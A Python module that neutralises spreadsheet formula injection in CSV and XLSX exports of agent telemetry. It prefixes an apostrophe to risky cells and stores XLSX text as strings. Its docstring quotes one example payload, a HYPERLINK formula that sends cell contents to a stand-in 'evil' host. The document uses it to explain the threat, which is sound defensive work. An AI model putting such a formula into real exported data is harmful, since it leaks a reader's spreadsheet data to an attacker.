"""Every CSV and XLSX export writes its cells through here: no telemetry text becomes a formula.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
leading tab or carriage return can hide one), so an agent name or an escalation reason such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine. Text that starts with one of
those characters is written with a leading apostrophe, the spreadsheet convention for "this is
text" (OWASP's advice for CSV injection). Numbers, and text that is only a number such as ``-12.50``,
are left as they are. In XLSX every text cell is also stored as a string, never as a formula.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import TYPE_STRING

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d[\d,]*)?(\.\d+)?(e[+-]?\d+)?%?$", re.IGNORECASE)


def neutralise(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not (
        _PLAIN_NUMBER.match(value) and any(ch.isdigit() for ch in value)
    ):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised; ``writerow`` returns what the file's write returned."""

    def __init__(self, out, **kwargs) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(out, **kwargs)


def append_xlsx_row(sheet, row: Iterable[Any]) -> None:
    """Append to an openpyxl sheet: text neutralised and stored as a string (openpyxl makes text that
    starts with ``=`` a formula)."""
    values = safe_row(row)
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if isinstance(value, str):
            cell.data_type = TYPE_STRING
